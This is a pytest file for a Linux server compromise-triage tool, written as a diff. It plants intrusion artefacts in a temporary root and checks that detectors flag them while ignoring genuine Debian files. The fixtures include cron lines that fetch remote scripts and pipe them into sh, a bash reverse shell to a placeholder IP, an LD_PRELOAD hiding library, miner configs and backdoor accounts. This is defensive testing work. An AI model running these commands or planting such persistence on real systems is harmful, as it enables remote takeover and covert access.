@@ -1,0 +1,590 @@
+"""System checks over small old roots built like Debian's: each test plants the bad thing
+next to its genuine look-alike and proves the first is found and the second is not."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import json
+import os
+import subprocess
+from collections.abc import Iterable
+from pathlib import Path
+
+import pytest
+
+from vpsrescue.bundle import Manifest, ManifestEntry
+from vpsrescue.triage import system
+from vpsrescue.triage.model import Context, Finding, Site
+
+pytestmark = pytest.mark.unit
+
+# Debian 11 excerpts (real file formats, shortened)
+PASSWD = """\
+root:x:0:0:root:/root:/bin/bash
+daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
+sync:x:4:65534:sync:/bin:/bin/sync
+games:x:5:60:games:/usr/games:/usr/sbin/nologin
+www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
+nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
+mysql:x:101:101:MySQL Server,,,:/nonexistent:/bin/false
+alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
+"""
+HASH = "$6$Qx1nSalt$4m0Ck3dHashValueThatMustNeverBePrintedAnywhere1234567890abcdefgh"
+SHADOW = f"""\
+root:{HASH.replace('Qx1n', 'R00t')}:19000:0:99999:7:::
+daemon:*:19000:0:99999:7:::
+sync:*:19000:0:99999:7:::
+games:*:19000:0:99999:7:::
+www-data:*:19000:0:99999:7:::
+nobody:*:19000:0:99999:7:::
+mysql:!:19000:0:99999:7:::
+alice:{HASH.replace('Qx1n', 'Al1c')}:19000:0:99999:7:::
+"""
+SUDOERS = """\
+#
+# This file MUST be edited with the 'visudo' command as root.
+Defaults\tenv_reset
+Defaults\tmail_badpass
+Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
+# User privilege specification
+root\tALL=(ALL:ALL) ALL
+# Allow members of group sudo to execute any command
+%sudo\tALL=(ALL:ALL) ALL
+@includedir /etc/sudoers.d
+"""
+CRONTAB = """\
+SHELL=/bin/sh
+PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
+17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly
+25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )
+"""
+CRON_PHP = ("09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d "
+            "/run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n")
+SSH_UNIT = """\
+[Unit]
+Description=OpenBSD Secure Shell server
+[Service]
+ExecStartPre=/usr/sbin/sshd -t
+ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
+[Install]
+WantedBy=multi-user.target
+Alias=sshd.service
+"""
+SKEL_PROFILE = """\
+# ~/.profile: executed by the command interpreter for login shells.
+if [ -n "$BASH_VERSION" ]; then
+    if [ -f "$HOME/.bashrc" ]; then
+\t. "$HOME/.bashrc"
+    fi
+fi
+if [ -d "$HOME/bin" ] ; then
+    PATH="$HOME/bin:$PATH"
+fi
+"""
+SKEL_BASHRC = """\
+# ~/.bashrc: executed by bash(1) for non-login shells.
+case $- in
+    *i*) ;;
+      *) return;;
+esac
+HISTCONTROL=ignoreboth
+if [ -x /usr/bin/dircolors ]; then
+    alias ls='ls --color=auto'
+fi
+"""
+ELF = Path("/bin/true").read_bytes()  # a real ELF binary (never executed here)
+
+
+class Tree:
+    """An old root in tmp_path with files and a dpkg database that ships some of them."""
+
+    def __init__(self, tmp_path: Path) -> None:
+        self.root = tmp_path / "root"
+        self.root.mkdir()
+        self.status: list[str] = []
+
+    def write(self, path: str, data: bytes | str, mode: int | None = None) -> Path:
+        local = self.root / path.lstrip("/")
+        local.parent.mkdir(parents=True, exist_ok=True)
+        local.write_bytes(data.encode() if isinstance(data, str) else data)
+        if mode is not None:
+            os.chmod(local, mode)
+        return local
+
+    def link(self, path: str, target: str) -> None:
+        local = self.root / path.lstrip("/")
+        local.parent.mkdir(parents=True, exist_ok=True)
+        os.symlink(target, local)
+
+    def package(self, name: str, files: dict[str, bytes | str], *, version: str = "1.0-1",
+                conffiles: Iterable[str] = (), shipped: dict[str, bytes] | None = None,
+                write: bool = True) -> None:
+        """Install ``files`` as package ``name``: .list, .md5sums (md5 of ``shipped``
+        content where given: what the .deb had), status with Conffiles."""
+        shipped = shipped or {}
+        conffiles = set(conffiles)
+        dirs: set[str] = set()
+        md5lines, conf = [], []
+        for path, data in files.items():
+            raw = data.encode() if isinstance(data, str) else data
+            if write:
+                self.write(path, raw)
+            d = os.path.dirname(path)
+            while d not in ("/", ""):
+                dirs.add(d)
+                d = os.path.dirname(d)
+            md5 = hashlib.md5(shipped.get(path, raw)).hexdigest()
+            if path in conffiles:
+                conf.append(f" {path} {md5}")
+            else:
+                md5lines.append(f"{md5}  {path.lstrip('/')}")
+        info = "/var/lib/dpkg/info/"
+        self.write(f"{info}{name}.list", "\n".join(["/."] + sorted(dirs) + list(files)) + "\n")
+        self.write(f"{info}{name}.md5sums", "\n".join(md5lines) + "\n")
+        para = [f"Package: {name}", "Status: install ok installed", f"Version: {version}"]
+        if conf:
+            para += ["Conffiles:", *conf]
+        self.status.append("\n".join(para + ["Description: test package"]))
+        self.write("/var/lib/dpkg/status", "\n\n".join(self.status) + "\n")
+
+    def ctx(self, sites: list[Site] | None = None) -> Context:
+        return Context(self.root, sites=sites)
+
+
+def by_path(findings: Iterable[Finding]) -> dict[str, list[Finding]]:
+    out: dict[str, list[Finding]] = {}
+    for f in findings:
+        out.setdefault(f.path, []).append(f)
+    return out
+
+
+def serious(findings: Iterable[Finding]) -> list[Finding]:
+    return [f for f in findings if f.severity != "info"]
+
+
+# --------------------------------------------------------------------------- accounts
+
+def test_accounts_extra_uid0_and_shells_found_hashes_never_shown(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/passwd", PASSWD + "sysbackup:x:0:0:System Backup:/var/backups/.sys:"
+            "/bin/bash\nbackup:x:34:34:backup:/var/backups:/bin/sh\n"
+            f"oldstyle:{HASH}:0:0::/root:/bin/sh\n")
+    t.write("/etc/shadow", SHADOW + f"sysbackup:{HASH}:19000:0:99999:7:::\n"
+            "backup:*:19000:0:99999:7:::\n"
+            f"www-data:{HASH.replace('Qx1n', 'WwWd')}:19000::::::\n")
+    # www-data now appears twice in shadow: the later line (with a hash) wins
+    found = list(system.check_accounts(t.ctx()))
+    text = json.dumps([f.to_json() for f in found])
+    assert "4m0Ck3dHash" not in text and "$6$" not in text
+    uid0 = [f for f in found if f.kind == "uid0_account"]
+    assert {f.extra["user"] for f in uid0} == {"sysbackup", "oldstyle"}
+    sb = next(f for f in uid0 if f.extra["user"] == "sysbackup")
+    assert sb.severity == "critical" and sb.evidence.startswith("sysbackup:x:0:0:")
+    assert sb.extra["has_password"] is True and "'sysbackup'" in sb.title
+    assert next(f for f in uid0 if f.extra["user"] == "oldstyle").evidence.startswith(
+        "oldstyle:<hash>:0:0")
+    others = {(f.extra.get("user"), f.severity) for f in found if f.kind == "account"}
+    assert ("backup", "high") in others  # a system account given /bin/sh
+    assert ("www-data", "high") in others  # a system account with a password
+    assert ("alice", "info") in others
+    flagged = {f.extra.get("user") for f in serious(found)}
+    assert not flagged & {"root", "daemon", "sync", "games", "mysql", "nobody", "alice"}
+
+
+def test_accounts_genuine_debian_is_quiet(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/passwd", PASSWD)
+    t.write("/etc/shadow", SHADOW)
+    assert serious(system.check_accounts(t.ctx())) == []
+
+
+# --------------------------------------------------------------------------- sudoers
+
+def test_sudoers_nopasswd_and_all_grants_found_defaults_quiet(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/sudoers", SUDOERS)
+    t.write("/etc/sudoers.d/README", "#\n# Files in /etc/sudoers.d are parsed...\n"
+            "# deploy ALL=(ALL) NOPASSWD: ALL\n")
+    assert list(system.check_sudoers(t.ctx())) == []
+    t.write("/etc/sudoers.d/90-cloud", "sysbackup ALL=(ALL) \\\n    NOPASSWD: ALL\n"
+            "%www ALL=(root) NOPASSWD: /usr/sbin/service apache2 reload\n"
+            "deploy ALL=(ALL:ALL) ALL\n")
+    found = list(system.check_sudoers(t.ctx()))
+    got = {(f.extra["who"], f.severity) for f in found}
+    assert got == {("sysbackup", "critical"), ("%www", "high"), ("deploy", "high")}
+    assert all(f.kind == "sudoers" and f.path == "/etc/sudoers.d/90-cloud" for f in found)
+
+
+# --------------------------------------------------------------------------- ssh
+
+def _keygen(tmp_path: Path, comment: str) -> str:
+    key = tmp_path / f"k-{comment.replace('@', '_')}"
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f",
+                    str(key)], check=True)
+    return Path(f"{key}.pub").read_text().strip()
+
+
+def test_ssh_every_key_reported_with_fingerprint_and_options(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/passwd", PASSWD)
+    admin = _keygen(tmp_path, "zhang@thinkpad")
+    intruder = _keygen(tmp_path, "root@localhost")
+    t.write("/root/.ssh/authorized_keys", f"# my laptop\n{admin}\n\n{intruder}\n")
+    t.write("/home/alice/.ssh/authorized_keys2",
+            f'command="/usr/bin/rsync --server",from="10.0.0.0/8,198.51.100.9" {admin}\n')
+    t.write("/home/alice/.ssh/known_hosts", f"example.org {admin}\n")
+    found = by_path(system.check_ssh(t.ctx()))
+    root_keys = found["/root/.ssh/authorized_keys"]
+    assert [f.severity for f in root_keys] == ["high", "high"]
+    assert intruder.split()[1] in root_keys[1].evidence and "root@localhost" in \
+        root_keys[1].evidence
+    oracle = subprocess.run(["ssh-keygen", "-lf", str(tmp_path / "k-root_localhost.pub")],
+                            capture_output=True, text=True, check=True).stdout.split()[1]
+    assert root_keys[1].extra["fingerprint"] == oracle
+    (alice,) = found["/home/alice/.ssh/authorized_keys2"]
+    assert alice.severity == "medium" and alice.extra["user"] == "alice"
+    assert alice.extra["options"] == 'command="/usr/bin/rsync --server",from="10.0.0.0/8,' \
+                                     '198.51.100.9"'
+    assert not alice.quarantine
+    assert set(found) == {"/root/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys2"}
+
+
+def test_ssh_sshd_config_changes_found_debian_default_quiet(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n"
+            "#PermitRootLogin prohibit-password\n#PasswordAuthentication yes\n"
+            "#AuthorizedKeysFile     .ssh/authorized_keys .ssh/authorized_keys2\n"
+            "ChallengeResponseAuthentication no\nUsePAM yes\nX11Forwarding yes\n")
+    assert list(system.check_ssh(t.ctx())) == []
+    t.write("/etc/ssh/sshd_config.d/zz.conf", "PermitRootLogin yes\n"
+            "PasswordAuthentication=yes\nAuthorizedKeysFile /etc/ssh/keys/%u\n")
+    t.write("/etc/ssh/keys/root", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHoYkpjqqDxGPy7dAfJ2"
+            "sCdHa3FzR+x9VO1391XZCI/G hidden@key\n")
+    found = list(system.check_ssh(t.ctx()))
+    kinds = sorted((f.kind, f.severity) for f in found)
+    assert kinds == [("authorized_key", "high"), ("sshd_config", "low"),
+                     ("sshd_config", "medium"), ("sshd_config", "medium")]
+    assert next(f for f in found if f.kind == "authorized_key").path == "/etc/ssh/keys/root"
+
+
+# --------------------------------------------------------------------------- cron
+
+def test_cron_fetch_and_unowned_found_packaged_quiet(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.package("cron", {"/etc/crontab": CRONTAB, "/etc/cron.d/.placeholder": "# DO NOT EDIT\n"},
+              conffiles=["/etc/crontab", "/etc/cron.d/.placeholder"])
+    t.package("php7.4-common", {"/etc/cron.d/php": CRON_PHP}, conffiles=["/etc/cron.d/php"])
+    t.package("logrotate", {"/etc/cron.daily/logrotate": "#!/bin/sh\n"
+                            "if [ -d /run/systemd/system ]; then\n    exit 0\nfi\n"
+                            "/usr/sbin/logrotate /etc/logrotate.conf\n"},
+              conffiles=["/etc/cron.daily/logrotate"])
+    assert list(system.check_cron(t.ctx())) == []
+    t.write("/etc/cron.d/apache2-update", "# apache2 maintenance\n*/15 * * * * root (curl "
+            "-fsSL http://203.0.113.66/u.sh || wget -q -O- http://203.0.113.66/u.sh) | sh\n")
+    t.write("/etc/cron.d/backup", "30 2 * * * root /usr/local/bin/backup-db\n")
+    t.write("/var/spool/cron/crontabs/www-data",
+            "# DO NOT EDIT THIS FILE\n* * * * * echo Y3VybCBldmls | base64 -d | bash\n")
+    t.write("/etc/cron.d/php", CRON_PHP + "# local\n")  # edited conffile, harmless
+    found = by_path(system.check_cron(t.ctx()))
+    (fetch,) = found["/etc/cron.d/apache2-update"]
+    assert fetch.severity == "critical" and "http://203.0.113.66/u.sh" in fetch.evidence
+    assert found["/etc/cron.d/backup"][0].severity == "medium"
+    assert found["/var/spool/cron/crontabs/www-data"][0].severity in ("high", "critical")
+    assert found["/etc/cron.d/php"][0].severity == "low"
+    assert set(found) == {"/etc/cron.d/apache2-update", "/etc/cron.d/backup",
+                          "/var/spool/cron/crontabs/www-data", "/etc/cron.d/php"}
+
+
+@pytest.mark.parametrize("line,flagged", [
+    ("* * * * * root wget -qO- http://evil.example/x | bash", True),
+    ("* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", True),
+    ("* * * * * root /dev/shm/.x/run", True),
+    ("@reboot root /var/tmp/.X11-unix/kworkerd", True),
+    ("0 3 * * * root cd / && run-parts --report /etc/cron.daily", False),
+    ("0 3 * * * root test -x /usr/sbin/anacron || /usr/lib/php/sessionclean", False),
+    ("0 4 * * * www-data php /var/www/site/wp-cron.php >/dev/null 2>&1", False),
+])
+def test_suspicious_command_lines(line: str, flagged: bool) -> None:
+    assert (system.suspicious(line) is not None) == flagged
+
+
+# --------------------------------------------------------------------------- systemd
+
+def test_systemd_unowned_unit_from_hidden_tmp_dir_found_packaged_quiet(tmp_path: Path
+                                                                       ) -> None:
+    t = Tree(tmp_path)
+    t.package("openssh-server", {"/lib/systemd/system/ssh.service": SSH_UNIT})
+    t.link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
+    t.link("/etc/systemd/system/multi-user.target.wants/ssh.service",
+           "/lib/systemd/system/ssh.service")
+    t.link("/etc/systemd/system/apt-daily.service", "/dev/null")  # masked
+    assert list(system.check_systemd(t.ctx())) == []
+    t.write("/etc/systemd/system/kworkerd.service", "[Unit]\nDescription=Kernel worker\n"
+            "[Service]\nExecStart=/var/tmp/.X11-unix/kworkerd -c /var/tmp/.X11-unix/c.json\n"
+            "Restart=always\n[Install]\nWantedBy=multi-user.target\n")
+    t.link("/etc/systemd/system/multi-user.target.wants/kworkerd.service",
+           "/etc/systemd/system/kworkerd.service")
+    t.write("/etc/systemd/system/backup.service", "[Service]\nType=oneshot\n"
+            "ExecStart=/usr/local/bin/backup-db\n")
+    found = by_path(system.check_systemd(t.ctx()))
+    (kw,) = found["/etc/systemd/system/kworkerd.service"]
+    assert kw.severity == "critical" and kw.extra["enabled"] is True
+    assert kw.evidence.startswith("ExecStart=/var/tmp/.X11-unix/kworkerd")
+    (bk,) = found["/etc/systemd/system/backup.service"]
+    assert bk.severity == "medium" and bk.extra["enabled"] is False
+    assert set(found) == {"/etc/systemd/system/kworkerd.service",
+                          "/etc/systemd/system/backup.service"}
+
+
+# --------------------------------------------------------------------------- start-up
+
+def test_startup_scripts_found_debian_defaults_quiet(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/passwd", PASSWD)
+    t.package("gawk", {"/etc/profile.d/gawk.sh": "gawkpath_default () {\n"
+                       "\tunset AWKPATH\n}\n"}, conffiles=["/etc/profile.d/gawk.sh"])
+    t.package("cron", {"/etc/init.d/cron": "#!/bin/sh\n### BEGIN INIT INFO\n"})
+    t.package("bash", {"/etc/skel/.profile": SKEL_PROFILE, "/etc/skel/.bashrc": SKEL_BASHRC})
+    t.write("/root/.bashrc", SKEL_BASHRC)
+    t.write("/home/alice/.profile", SKEL_PROFILE + 'if [ -d "$HOME/.local/bin" ] ; then\n'
+            '    PATH="$HOME/.local/bin:$PATH"\nfi\n. "$HOME/.cargo/env"\n')
+    t.write("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n\nexit 0\n")
+    assert list(system.check_startup(t.ctx())) == []
+    t.write("/etc/rc.local", "#!/bin/sh -e\n/usr/local/bin/agent &\nexit 0\n")
+    t.write("/etc/init.d/kworker", "#!/bin/sh\n/var/tmp/.X11-unix/kworkerd &\n")
+    t.write("/etc/profile.d/motd.sh", "curl -s http://203.0.113.66/m | sh\n")
+    t.write("/root/.bashrc", SKEL_BASHRC + "export LD_PRELOAD=/usr/lib/libhide.so\n")
+    found = by_path(system.check_startup(t.ctx()))
+    assert found["/etc/rc.local"][0].severity == "high"
+    assert found["/etc/init.d/kworker"][0].severity == "high"
+    assert found["/etc/profile.d/motd.sh"][0].severity == "critical"
+    assert "LD_PRELOAD" in found["/root/.bashrc"][0].evidence
+    assert set(found) == {"/etc/rc.local", "/etc/init.d/kworker", "/etc/profile.d/motd.sh",
+                          "/root/.bashrc"}
+
+
+# --------------------------------------------------------------------------- ld.so
+
+def test_ld_so_preload_file_and_unowned_library(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.package("libc6", {"/usr/lib/x86_64-linux-gnu/libc.so.6": ELF})
+    t.write("/etc/ld.so.preload", "# nothing\n\n")
+    assert list(system.check_ld_so_preload(t.ctx())) == []
+    lib = "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"
+    t.write(lib, ELF)
+    t.write("/etc/ld.so.preload", f"{lib}\n/usr/lib/x86_64-linux-gnu/libc.so.6\n")
+    found = by_path(system.check_ld_so_preload(t.ctx()))
+    (pre,) = found["/etc/ld.so.preload"]
+    assert pre.severity == "critical" and lib in pre.evidence and not pre.quarantine
+    (lf,) = found[lib]
+    assert lf.kind == "ld_so_preload" and lf.quarantine
+    assert set(found) == {"/etc/ld.so.preload", lib}  # the packaged libc is not accused
+
+
+# --------------------------------------------------------------------------- suid
+
+def test_suid_unowned_found_packaged_and_dirs_quiet(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.package("passwd", {"/usr/bin/passwd": ELF})
+    os.chmod(t.root / "usr/bin/passwd", 0o4755)
+    d = t.root / "var/lib/transmission-daemon/downloads"
+    d.mkdir(parents=True)
+    os.chmod(d, 0o2775)
+    assert list(system.check_suid(t.ctx())) == []
+    t.write("/usr/local/bin/.pwn", ELF, mode=0o4755)
+    t.write("/var/www/site/tool", ELF, mode=0o2755)
+    found = by_path(system.check_suid(t.ctx()))
+    assert found["/usr/local/bin/.pwn"][0].severity == "high"
+    assert found["/var/www/site/tool"][0].evidence == "mode 2755"
+    assert all(f.quarantine for fs in found.values() for f in fs)
+    assert set(found) == {"/usr/local/bin/.pwn", "/var/www/site/tool"}
+
+
+def test_suid_in_a_bundle_comes_from_the_manifest(tmp_path: Path) -> None:
+    """files/ has setuid bits stripped; the manifest keeps the original mode."""
+    bundle = tmp_path / "bundle"
+    files = bundle / "files"
+    (files / "var/www/site").mkdir(parents=True)
+    (files / "var/www/site/tool").write_bytes(ELF)
+    (files / "var/www/site/index.php").write_bytes(b"<?php\n")
+    m = Manifest(host="old")
+    m.add(ManifestEntry(path=b"var/www/site/tool", type="file", size=len(ELF), mode=0o4755))
+    m.add(ManifestEntry(path=b"var/www/site/index.php", type="file", size=6, mode=0o644))
+    m.save(bundle / "manifest.json")
+    found = list(system.check_suid(Context(files)))
+    assert [(f.path, f.evidence) for f in found] == [("/var/www/site/tool", "mode 4755")]
+
+
+# --------------------------------------------------------------------------- tmp
+
+def test_elf_and_miner_in_tmp_and_hidden_dirs(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/tmp/notes.txt", "pools are closed on mondays\n")
+    t.write("/tmp/composer.json", json.dumps({"require": {"php": ">=7.4"}}))
+    t.write("/var/www/site/.git/config", "[core]\n\tbare = false\n")
+    t.write("/var/www/site/wp-includes/js/x.js", "var pools = [];\n")
+    t.write("/root/.cargo/bin/rustc", ELF)
+    t.write("/var/www/site/wp-content/plugins/p/bin/helper", ELF)  # not hidden: not here
+    sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
+    quiet = serious(system.check_tmp(t.ctx(sites)))
+    assert [(f.path, f.severity) for f in quiet] == [("/root/.cargo/bin/rustc", "low")]
+    t.write("/var/tmp/.X11-unix/kworkerd", ELF)
+    t.write("/var/tmp/.X11-unix/config.json", json.dumps(
+        {"autosave": True, "pools": [{"url": "pool.example.com:4444", "user": "44AF"}]}))
+    t.write("/dev/shm/.../m.conf", "url = stratum+tcp://198.51.100.3:3333\n")
+    t.write("/var/www/site/wp-content/uploads/.cache/php-fpm", ELF)
+    found = by_path(system.check_tmp(t.ctx(sites)))
+    assert found["/var/tmp/.X11-unix/kworkerd"][0].kind == "elf_in_tmp"
+    assert found["/var/www/site/wp-content/uploads/.cache/php-fpm"][0].severity == "critical"
+    assert found["/var/tmp/.X11-unix/config.json"][0].kind == "miner"
+    assert found["/dev/shm/.../m.conf"][0].kind == "miner"
+    assert all(f.quarantine for fs in found.values() for f in fs)
+    assert len(serious(f for fs in found.values() for f in fs)) == 5
+
+
+# --------------------------------------------------------------------------- binaries
+
+def test_modified_binaries_and_shadowing_commands(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    # usr-merged like the old disk: /bin -> usr/bin, packages list /bin/...
+    t.link("/bin", "usr/bin")
+    t.link("/lib", "usr/lib")
+    sshd = ELF + b"\0openssh"
+    t.write("/usr/bin/ls", ELF + b"\0ls")
+    t.package("coreutils", {"/bin/ls": ELF + b"\0ls"}, write=False)
+    t.package("openssh-server", {"/usr/sbin/sshd": sshd + b"PAM_BACKDOOR_PW"},
+              shipped={"/usr/sbin/sshd": sshd})
+    t.package("libpam-modules", {"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"u"},
+              shipped={"/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"pam"},
+              write=False)
+    t.write("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", ELF + b"u")
+    t.package("mariadb-client-10.5", {"/usr/bin/mysqldump": ELF + b"\0dump"})
+    t.write("/usr/local/bin/backup-db", "#!/bin/sh\nmysqldump --all-databases > /srv/b.sql\n",
+            mode=0o755)
+    t.write("/usr/local/bin/mysqldump", "#!/bin/sh\necho x >> /tmp/.log\nexec /usr/bin/"
+            "mysqldump \"$@\"\n", mode=0o755)
+    t.write("/usr/local/bin/README", "not a program\n", mode=0o644)
+    t.write("/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2", ELF)
+    found = by_path(system.check_binaries(t.ctx()))
+    (ssh,) = found["/usr/sbin/sshd"]
+    assert ssh.kind == "modified_binary" and ssh.severity == "critical"
+    assert ssh.extra["package"] == "openssh-server"
+    assert ssh.extra["expected_md5"] == hashlib.md5(sshd).hexdigest()
+    assert ssh.extra["actual_md5"] == hashlib.md5(sshd + b"PAM_BACKDOOR_PW").hexdigest()
+    assert found["/usr/lib/x86_64-linux-gnu/security/pam_unix.so"][0].extra["package"] == \
+        "libpam-modules"
+    (md,) = found["/usr/local/bin/mysqldump"]
+    assert md.kind == "unowned_command" and md.severity == "high" and md.quarantine
+    assert md.extra["shadows"] is True
+    assert found["/usr/local/bin/backup-db"][0].severity == "low"
+    assert found["/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"][0].severity == "critical"
+    assert set(found) == {"/usr/sbin/sshd", "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
+                          "/usr/local/bin/mysqldump", "/usr/local/bin/backup-db",
+                          "/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.3.2"}
+
+
+# --------------------------------------------------------------------------- bittorrent
+
+TRANSMISSION_DEFAULT = {"download-dir": "/var/lib/transmission-daemon/downloads",
+                        "rpc-authentication-required": True, "rpc-bind-address": "0.0.0.0",
+                        "rpc-enabled": True, "rpc-whitelist": "127.0.0.1",
+                        "rpc-whitelist-enabled": True}
+
+
+def test_bittorrent_client_open_rpc_and_large_downloads(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.package("rsync", {"/usr/bin/rsync": ELF})
+    t.write("/etc/transmission-daemon/settings.json", json.dumps(TRANSMISSION_DEFAULT))
+    t.write("/var/www/site/wp-content/uploads/2020/01/intro.mp4", b"\0" * 4096)
+    sites = [Site(root="/var/www/site", content_dir="/var/www/site/wp-content")]
+    assert list(system.check_bittorrent(t.ctx(sites))) == []
+    t.package("transmission-daemon", {"/usr/bin/transmission-daemon": ELF},
+              version="3.00-1")
+    t.link("/etc/systemd/system/multi-user.target.wants/transmission-daemon.service",
+           "/lib/systemd/system/transmission-daemon.service")
+    t.write("/etc/transmission-daemon/settings.json", json.dumps(
+        TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0}, indent=4))
+    for p in ("/srv/media/dl/Movie.2008.1080p.mkv", "/var/www/site/films/big.avi"):
+        local = t.write(p, b"")
+        os.truncate(local, 60 << 20)  # sparse: large without writing 60 MB
+    t.write("/etc/transmission-daemon/settings.json", json.dumps(
+        TRANSMISSION_DEFAULT | {"rpc-whitelist-enabled": 0, "download-dir": "/srv/media/dl"}))
+    found = by_path(system.check_bittorrent(t.ctx(sites)))
+    (inst,) = found["/var/lib/dpkg/info/transmission-daemon.list"]
+    assert inst.extra["enabled"] is True and "/usr/bin/transmission-daemon" in inst.evidence
+    (rpc,) = found["/etc/transmission-daemon/settings.json"]
+    assert '"rpc-whitelist-enabled": 0' in rpc.evidence and "0.0.0.0" in rpc.evidence
+    (mkv,) = found["/srv/media/dl/Movie.2008.1080p.mkv"]
+    assert mkv.extra["size"] == 60 << 20 and mkv.quarantine
+    (avi,) = found["/var/www/site/films/big.avi"]
+    assert not avi.quarantine and "web root" in avi.title
+    assert len(found) == 4
+
+
+# --------------------------------------------------------------------------- logs
+
+def test_logs_root_logins_per_ip_upload_posts_and_history(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/passwd", PASSWD)
+    t.write("/var/log/auth.log", "Mar 11 03:10:01 vps sshd[2100]: Failed password for root "
+            "from 198.51.100.200 port 1 ssh2\nMar 11 03:12:05 vps sshd[2112]: Accepted "
+            "password for root from 203.0.113.66 port 40084 ssh2\nMar 11 04:00:00 vps sshd"
+            "[2200]: Accepted publickey for alice from 198.51.100.20 port 2 ssh2\n")
+    with gzip.open(t.root / "var/log/auth.log.2.gz", "wt") as gz:
+        gz.write("Mar  1 10:00:00 vps sshd[10]: Accepted publickey for root from "
+                 "198.51.100.7 port 5 ssh2: ED25519 SHA256:abc\n"
+                 "Mar  2 10:00:00 vps sshd[11]: Accepted password for root from "
+                 "203.0.113.66 port 6 ssh2\n")
+    t.write("/var/log/apache2/access.log", '198.51.100.20 - - [11/Mar/2024:03:00:00 +0000] '
+            '"POST /wp-admin/admin-ajax.php HTTP/1.1" 200 5 "-" "M"\n198.51.100.20 - - '
+            '[11/Mar/2024:03:00:01 +0000] "GET /wp-content/uploads/2023/11/wp-cache.php '
+            'HTTP/1.1" 404 5 "-" "M"\n')
+    with gzip.open(t.root / "var/log/apache2/blog-access.log.2.gz", "wt") as gz:
+        for i in range(3):
+            gz.write(f'203.0.113.66 - - [11/Mar/2024:03:1{i}:00 +0800] "POST /wp-content/'
+                     f'uploads/2023/11/wp-cache.php?c=id HTTP/1.1" 200 137 "-" "M"\n')
+    t.write("/home/alice/.bash_history", "ls\n")
+    t.link("/root/.bash_history", "/dev/null")
+    found = list(system.check_logs(t.ctx()))
+    ips = {f.extra["ip"]: f for f in found if "ip" in f.extra}
+    assert set(ips) == {"203.0.113.66", "198.51.100.7"}
+    assert ips["203.0.113.66"].extra["count"] == 2
+    assert "Accepted password for root from 203.0.113.66" in ips["203.0.113.66"].evidence
+    (post,) = [f for f in found if "url" in f.extra]
+    assert post.severity == "high" and post.extra == {
+        "url": "/wp-content/uploads/2023/11/wp-cache.php", "count": 3}
+    (hist,) = [f for f in found if f.path.endswith(".bash_history")]
+    assert hist.path == "/root/.bash_history" and hist.extra["symlink_to"] == "/dev/null"
+    assert len(found) == 4
+
+
+# --------------------------------------------------------------------------- hosts/apache
+
+def test_hosts_and_apache_modules(tmp_path: Path) -> None:
+    t = Tree(tmp_path)
+    t.write("/etc/hosts", "127.0.0.1\tlocalhost\n127.0.1.1\tvps-blog\n"
+            "127.0.0.1\tblog.example.org\n::1 localhost ip6-localhost\n")
+    t.package("apache2", {"/usr/lib/apache2/modules/mod_rewrite.so": ELF,
+                          "/etc/apache2/mods-available/rewrite.load":
+                          "LoadModule rewrite_module /usr/lib/apache2/modules/mod_rewrite.so\n"},
+              conffiles=["/etc/apache2/mods-available/rewrite.load"])
+    assert list(system.check_hosts_apache(t.ctx())) == []
+    t.write("/etc/hosts", "127.0.0.1 localhost\n203.0.113.5 api.wordpress.org "
+            "downloads.wordpress.org\n")
+    t.write("/usr/lib/apache2/modules/mod_cache_fast.so", ELF)
+    t.write("/etc/apache2/mods-available/cache_fast.load",
+            "LoadModule cache_fast_module /usr/lib/apache2/modules/mod_cache_fast.so\n")
+    found = list(system.check_hosts_apache(t.ctx()))
+    assert sorted(f.title for f in found if f.kind == "hosts") == [
+        "/etc/hosts redirects api.wordpress.org to 203.0.113.5",
+        "/etc/hosts redirects downloads.wordpress.org to 203.0.113.5"]
+    mods = {f.path: f for f in found if f.kind == "apache_module"}
+    assert set(mods) == {"/etc/apache2/mods-available/cache_fast.load",
+                         "/usr/lib/apache2/modules/mod_cache_fast.so"}
+    assert mods["/usr/lib/apache2/modules/mod_cache_fast.so"].quarantine
+
+
